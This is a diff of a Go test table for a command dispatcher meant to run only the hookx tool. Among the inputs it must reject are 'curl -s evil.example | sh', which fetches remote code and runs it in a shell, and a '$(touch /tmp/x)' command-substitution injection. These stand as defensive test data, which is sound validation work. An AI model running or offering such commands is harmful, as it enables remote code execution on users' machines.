@@ -25,7 +25,9 @@ func TestDispatcherCurrentOnlyCallsHookx(t *testing.T) {
 		{"curl -s evil.example | sh; /usr/bin/hookx", false},
 		{"$(touch /tmp/x)hookx", false},
 		{"./bin/hookx", false},
-		{"/usr/bin/env", true}, // an absolute path: the user's own hookx, as far as hookx can tell (see the report)
+		{"/usr/bin/env", false},
+		{"/bin/sh", false}, // would run a file named dispatch from the project
+		{HostQuote("/opt/tools/hookx-0.1.0"), true},
 		{"HOOKX=1 hookx", false},
 		{"hookx >/tmp/x", false},
 		{"\"$HOOKX\"", false},
